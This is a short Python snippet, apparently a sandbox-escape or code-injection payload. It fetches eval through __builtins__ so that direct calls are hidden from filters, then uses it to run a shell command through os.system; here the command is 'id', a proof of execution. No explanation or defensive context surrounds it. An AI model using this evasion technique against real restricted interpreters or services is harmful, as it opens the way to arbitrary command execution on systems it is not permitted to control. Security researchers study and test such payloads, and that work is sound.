b = __builtins__
ev = b["eval"] if isinstance(b, dict) else b.eval
ev("__import__('os').system('id')")
